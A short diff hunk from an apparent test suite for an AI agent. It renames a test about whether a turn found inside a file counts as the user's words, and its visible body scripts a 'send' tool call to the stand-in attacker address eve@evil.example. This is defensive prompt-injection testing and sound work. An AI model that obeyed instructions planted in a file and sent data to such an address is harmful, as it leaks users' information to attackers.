@@ -161,7 +161,7 @@ async def test_what_the_user_says_here_is_the_users_and_what_they_said_there_is_
     assert sent == ["bob@home.example"]
 
 
-async def test_a_question_of_the_last_turn_in_the_file_is_no_word_of_the_users() -> None:
+async def test_the_last_turn_in_the_file_does_not_count_as_the_users() -> None:
     store = MemoryStore()
     waiting = agent(store, call("send", to="eve@evil.example"), "Sent.", system_prompt="Be brief.")
     await waiting.run("Send it to eve@evil.example.", thread_id="t")
